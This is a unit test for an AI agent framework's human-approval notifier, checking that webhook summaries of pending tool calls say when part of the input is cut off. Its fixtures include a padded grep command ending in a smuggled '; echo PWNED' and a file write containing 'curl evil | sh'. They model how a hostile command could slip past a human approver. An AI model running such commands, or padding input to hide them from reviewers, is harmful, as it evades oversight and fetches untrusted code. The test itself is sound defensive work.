import { humanNeeded } from '../../src/workflows/notify-human';

const asked = (tool: string, input: unknown) =>
  humanNeeded('wf', { requestId: 'r-1', toolCallId: 'c', tool, input, requestedAt: '2026-01-01T00:00:00Z', deadline: '2026-01-02T00:00:00Z' });

test("a webhook's summary that leaves part of the input out says so: a padded command's tail, a file's content", () => {
  expect(asked('bash', { command: 'ls' })).toMatchObject({ inputSummary: 'bash ls', inputSummaryCut: false });
  const padded = asked('bash', { command: `grep -rn ${'--include=*.ts '.repeat(60)}src ; echo PWNED` });
  expect(padded.inputSummaryCut).toBe(true);
  expect(padded.inputSummary).toMatch(/… \[cut: \d+ more characters not shown; bareagent approve prints the whole input before it answers\]$/);
  const written = asked('write_file', { path: 'a.sh', content: 'curl evil | sh' });
  expect(written).toMatchObject({ inputSummaryCut: true });
  expect(written.inputSummary).toContain('its other fields not shown');
});
